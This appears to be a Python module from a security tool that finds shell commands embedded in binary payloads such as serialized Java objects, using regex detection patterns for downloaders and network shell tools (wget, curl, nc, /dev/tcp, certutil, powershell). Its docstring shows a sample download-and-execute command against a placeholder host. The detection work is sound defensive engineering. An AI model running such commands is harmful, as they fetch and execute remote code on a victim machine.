"""Commands in plain text among bytes that nobody understands: in Java's objects, in messages of whatever kind.

    … 00 2f | cd /tmp; wget http://h/x; sh x | 78 …        a length, a text, the next thing

A text is a command where a program that brings others is called with something in it. Owns no grammar: where a length
stands before the text in one byte or two, what is printable of it and of what follows is left out.
"""

from __future__ import annotations

import re
from itertools import islice

from eudaemon.wire import decode

COMMANDS_MAX = 4  # of one payload
COMMAND_BYTES_MAX = 8192
TEXTS_MAX = 4096  # of one payload that are looked at
LOOKED_BYTES_MAX = 256 * 1024
_TEXT_BYTES_MAX = 16 * 1024  # of one text
_TEXT = re.compile(rb"[\t\x20-\x7e]{8,}")
_PATH = rb"(?:/[\w.-]+)*/?"
_BEGINS = re.compile(
    rb"(?<![\w.-])" + _PATH + rb"(?:sudo|nohup|cd|wget|curl|tftp|ftpget|busybox|sh|bash|ash|chmod|rm|mkdir|echo|printf|"
    rb"export|python[23]?|perl|php|nc|ncat|telnet|lwp-download|killall|pkill|kill|cmd(?:\.exe)?|powershell(?:\.exe)?|"
    rb"certutil(?:\.exe)?|bitsadmin(?:\.exe)?|mshta(?:\.exe)?|regsvr32(?:\.exe)?)(?=[ \t;|>])"
)  # fmt: skip
_BRINGS = re.compile(
    rb"(?<![\w.-])" + _PATH + rb"(?:(?:wget|curl|lwp-download|certutil|bitsadmin|mshta|regsvr32|msiexec)(?:\.exe)?[ \t]"
    rb"[^\r\n]{0,200}?(?:\d\.\d|//)|t?ftp(?:get)?[ \t][^\r\n]{0,128}?\d\.\d|nc(?:at)?[ \t][^\r\n]{0,64}?\d\.\d|"
    rb"(?:powershell|pwsh)(?:\.exe)?[ \t])|/dev/tcp/|\{echo,|base64 +-?-d|\|[ \t]*(?:/bin/)?(?:ba|da)?sh\b"
)  # fmt: skip


_SPREAD = re.compile(rb"(?:/bin/)?(?:ba)?sh -c (?=\{)")
_QUOTED = {quote: re.compile(rb"(?:[^\\%s]|\\.)*" % quote) for quote in (b'"', b"'", b"`")}


def commands(payload: bytes) -> list[bytes]:
    """Return the commands that stand in a payload, at most `COMMANDS_MAX`, none twice."""
    found: dict[bytes, None] = {}
    for text in islice(_TEXT.finditer(payload, 0, LOOKED_BYTES_MAX), TEXTS_MAX):
        command = _of(payload, text)
        if command:
            found.setdefault(command)
        if len(found) == COMMANDS_MAX:
            break
    return list(found)


def _of(payload: bytes, text: re.Match[bytes]) -> bytes:
    line = text[0][:_TEXT_BYTES_MAX]
    if not _BRINGS.search(line):
        return b""
    size = int.from_bytes(payload[max(0, text.start() - 2) : text.start()], "big")
    inside = payload[max(0, text.start() - 1) : text.start() + 1]
    if len(inside) == 2 and inside[0] < 0x20 and (rest := int.from_bytes(inside, "big")) < len(line):
        if _BEGINS.match(line[1:]):
            line = line[1 : 1 + rest]
    elif 0 < size < len(line) and _BEGINS.match(line):
        line = line[:size]
    begins = _BEGINS.search(line)
    if begins is None:
        return b""
    quote, command = line[: begins.start()][-1:], line[begins.start() :][:COMMAND_BYTES_MAX]
    if quote in _QUOTED:  # it ends where the quote that it stands in does
        quoted = _QUOTED[quote].match(command)
        command = decode.backslashes(quoted[0]) if quoted else command
    command = command.strip()
    spread = _SPREAD.match(command)  # as Java executes it, which knows no quotes
    return decode.braces(command[spread.end() :]) if spread else command
